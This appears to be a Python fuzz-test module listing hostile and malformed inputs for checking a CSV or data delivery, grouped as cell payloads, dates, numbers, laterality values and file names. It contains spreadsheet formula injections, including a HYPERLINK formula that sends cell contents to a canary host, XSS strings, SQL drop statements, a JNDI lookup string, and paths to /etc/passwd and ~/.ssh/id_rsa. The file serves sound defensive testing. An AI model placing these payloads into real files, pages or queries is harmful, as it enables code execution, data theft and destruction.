"""Cells that a delivery should not hold, by what they try: what the fuzz campaign writes into it."""

# No message, log or page in the wrong place may repeat this.
CANARY = "zqxcanary"

PAYLOADS = (
    # spreadsheets
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("//zqxcanary/?"&A1;"more")', "\t=1+1", "x;=1+1", "＝1+1", "=1+1", "-", "+", "@", "=",
    # pages
    "<script>alert('zqxcanary')</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "</td></table>",
    "' onmouseover='alert(1)", "javascript:alert(1)", "&lt;b&gt;", "<!-- zqxcanary", "]]>", "</style><b>",
    # engines and templates
    "'; drop table raw.orders; --", "' or '1'='1", '"; select 1; --', "$path", "$1", "{{ 7 * 7 }}", "{% raw %}", "${jndi:ldap://zqx}",
    "%s%n%x", "{0}{batch}", "\\", "\\N", "\\x41", "chr(31)",
    # paths
    "../../etc/passwd", "..\\..\\windows\\system32", "file:///etc/passwd", "/dev/zero", "C:\\zqxcanary.txt", "~/.ssh/id_rsa",
    # letters that look alike, hide or turn round
    "С50.911", "Ｃ50.911", "C50․911", "76641\u200b", "\u200b", "\u202e11605C", "l\u0332\u0332\u0332eft", "LEFТ", "left\u00a0", "\ufeff", "ﬁnding", "٢٠٢٤",
    "🎗", "e\u0301", "é", "ß", "İ", "ǅ", "\u2028", "\u0085", "\x7f", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x0b", "\x0c", "\x08",
    # what programs take for something else
    "NULL", "null", "None", "nan", "NaN", "inf", "true", "1e400", "0x1F", "1E5", "00076641", "76641.0", "1_000", "#REF!", "N/A", "?", ".", ",", ";", ";;;",
    "   ", '"', '""', "'", "`", "a" * 190, "Ω" * 75, "; ; x ;", "zqxcanary",
)  # fmt: skip

DATES = (
    "0001-01-01", "0000-00-00", "0000-01-01", "9999-12-31", "9999-12-31T23:59:59Z", "10000-01-01", "-0044-03-15", "1582-10-10", "1899-12-31",
    "1900-01-01", "1969-12-31", "1970-01-01", "2024-02-30", "2023-02-29", "2024-02-29", "2024-13-01", "2024-1-1", "24-01-01", "2024-001", "2024-W05-1",
    "2024-01-01T24:00:00", "2016-12-31T23:59:60Z", "2024-01-01T00:00:00+14:00", "2024-01-01T00:00:00-99:99", "2024-01-01 00:00:00.123456789Z",
    "2024-01-01T00:00", "0001-01-01T00:00:00Z", "0001-01-01 00:00:00+00", "9999-12-31 23:59:59 +00:00", "infinity", "-infinity", "epoch", "today", "now",
    "20240101", "01/02/2024", "1/2/24", "Jan 1, 2024", "1704067200", "45292", "45292.5", "0", "-1", "+7", "999999", "-999999", "1e5", "1000000",
    "2024-01-01'", "２０２４-０１-０１", "2024‐01‐01", "2024-01-01\u200b", "2024-01-01 ", "2024-01-01; drop", "2262-04-12", "1677-09-20", "5881580-07-11",
)  # fmt: skip

NUMBERS = (
    "0", "-1", "1", "2147483647", "2147483648", "-2147483648", "9223372036854775807", "99999999999999999999", "1e308", "1e400", "-1e308", "nan", "inf",
    "-inf", "0.0000001", "1,5", "12 mm", "１２", "1_000", "0x10", "1e3", "30.0", " 30 ", "+30", "٣٠", "⅓", "1.7976931348623157e308", "--1", "3000000", "1900", "9999",
    "0000", "2024", "1", "-1990",
)  # fmt: skip

LATERALITY = (
    "LEFT", " right ", "bilateral", "both", "L", "R", "left;right", "left right", "port", "starboard", "sinister", "upside down", "left" * 30, "−1", "None", "unknown",
    "right\n", "links", "左", "‮tfel", "LT", "50", "middle", "leftright", "right/left", "true",
)  # fmt: skip

NAMES = (
    "=cmd|' _C calc'!A0.csv", "<script>alert(1)<", "'; drop table x; --.csv", "$path.csv", "a*b?[c].csv", "ünïcödé.csv", "\u202egnp.csv", "new\nline.csv", "{x}.csv",
    "%00.csv", " .csv", ".csv", "..csv", "-rf.csv", "~.csv", "con.csv", "a" * 240 + ".csv", "\x1b[31m.csv", "part.CSV", "part.csv.gz.csv", "part.txt", "a\\b.csv",
    b"\xff\xfe.csv", "'.csv", '".csv', "--help.csv", "jane.zqxcanary@example.org.csv", "mrn_00123456_zqxcanary.csv", "123-45-6789 zqxcanary.csv", "part-00000-4f1c.c000.snappy.parquet.csv",
)  # fmt: skip
